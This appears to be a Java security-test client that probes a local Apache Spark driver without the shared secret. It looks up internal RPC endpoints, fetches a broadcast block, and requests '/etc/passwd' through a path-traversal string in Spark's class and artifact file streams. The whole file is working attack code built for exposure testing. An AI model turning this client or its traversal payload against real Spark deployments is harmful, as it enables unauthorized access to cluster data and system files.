package org.trialmap.app;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.apache.spark.SecurityManager;
import org.apache.spark.SparkConf;
import org.apache.spark.network.TransportContext;
import org.apache.spark.network.buffer.ManagedBuffer;
import org.apache.spark.network.client.StreamCallback;
import org.apache.spark.network.client.TransportClient;
import org.apache.spark.network.netty.SparkTransportConf;
import org.apache.spark.network.server.NoOpRpcHandler;
import org.apache.spark.network.shuffle.BlockFetchingListener;
import org.apache.spark.network.shuffle.ExternalBlockStoreClient;
import org.apache.spark.network.util.TransportConf;
import org.apache.spark.rpc.RpcAddress;
import org.apache.spark.rpc.RpcEnv;
import scala.Option;

/**
 * What another account can do with Spark's own client, without the secret: look for a driver's RPC endpoints, fetch its first broadcast, and ask for files. Prints what it got, one a line;
 * nothing where it got nothing.
 */
public final class HostileClient {
    private static final String HOST = "127.0.0.1";
    private static final long PATIENCE_SECONDS = 20;
    /** Below any folder that Spark serves. */
    static final String ANY_FILE = "../".repeat(30) + "etc/passwd";

    private HostileClient() {}

    /** @param ports to try, all at once */
    public static void main(String[] ports) throws Exception {
        List<String> got = Collections.synchronizedList(new ArrayList<>());
        List<Thread> threads = Stream.of(ports).map(Integer::valueOf).map(port -> new Thread(() -> {
            try {
                got.addAll(endpoints(port));
                got.addAll(fetched(port));
                got.addAll(streams(port));
            } catch (Exception e) {
                got.add("a fault: " + e);
            }
        })).toList();
        threads.forEach(Thread::start);
        for (Thread thread : threads) {
            thread.join();
        }
        got.forEach(System.out::println);
        System.exit(0);
    }

    private static SparkConf conf() {
        return new SparkConf().set("spark.rpc.askTimeout", "10s").set("spark.rpc.lookupTimeout", "10s").set("spark.rpc.io.maxRetries", "0").set("spark.shuffle.io.maxRetries", "0");
    }

    private static List<String> endpoints(int port) {
        SparkConf conf = conf();
        List<String> got = new ArrayList<>();
        RpcEnv client = RpcEnv.create("client", HOST, 0, conf, new SecurityManager(conf, Option.empty(), SecurityManager.$lessinit$greater$default$3()), true);
        for (String endpoint : List.of("HeartbeatReceiver", "MapOutputTracker", "BlockManagerMaster")) {
            try {
                client.setupEndpointRef(RpcAddress.apply(HOST, port), endpoint);
                got.add("endpoint " + endpoint);
            } catch (Exception e) {
                System.err.println(port + " " + endpoint + ": " + e);
                break;
            }
        }
        client.shutdown();
        return got;
    }

    /** Each on a connection of its own, as Spark's executors do it. */
    private static List<String> streams(int port) throws Exception {
        List<String> got = new ArrayList<>();
        for (String name : List.of("/classes/" + ANY_FILE, "/artifacts/" + ANY_FILE)) {
            CountDownLatch ended = new CountDownLatch(1);
            try (TransportContext context = new TransportContext(transport("rpc"), new NoOpRpcHandler()); TransportClient client = context.createClientFactory().createUnmanagedClient(HOST, port)) {
                client.stream(name, new StreamCallback() {
                    @Override
                    public void onData(String stream, ByteBuffer data) {
                        // what is in it does not matter
                    }

                    @Override
                    public void onComplete(String stream) {
                        got.add("file " + name.replaceFirst("/.*/", "/.../"));
                        ended.countDown();
                    }

                    @Override
                    public void onFailure(String stream, Throwable cause) {
                        System.err.println(port + " " + name + ": " + cause);
                        ended.countDown();
                    }
                });
                ended.await(PATIENCE_SECONDS, TimeUnit.SECONDS);
            }
        }
        return got;
    }

    private static TransportConf transport(String module) {
        return SparkTransportConf.fromSparkConf(conf(), module, 1, Option.empty(), Option.empty());
    }

    private static List<String> fetched(int port) throws InterruptedException {
        List<String> got = new ArrayList<>();
        CountDownLatch ended = new CountDownLatch(1);
        try (ExternalBlockStoreClient client = new ExternalBlockStoreClient(transport("shuffle"), null, false, 5000)) {
            client.init("attack");
            client.fetchBlocks(HOST, port, "driver", new String[] {"broadcast_0_piece0"}, new BlockFetchingListener() {
                @Override
                public void onBlockFetchSuccess(String block, ManagedBuffer data) {
                    got.add("block " + block);
                    ended.countDown();
                }

                @Override
                public void onBlockFetchFailure(String block, Throwable cause) {
                    System.err.println(port + " " + block + ": " + cause);
                    ended.countDown();
                }
            }, null);
            ended.await(PATIENCE_SECONDS, TimeUnit.SECONDS);
        }
        return got;
    }
}
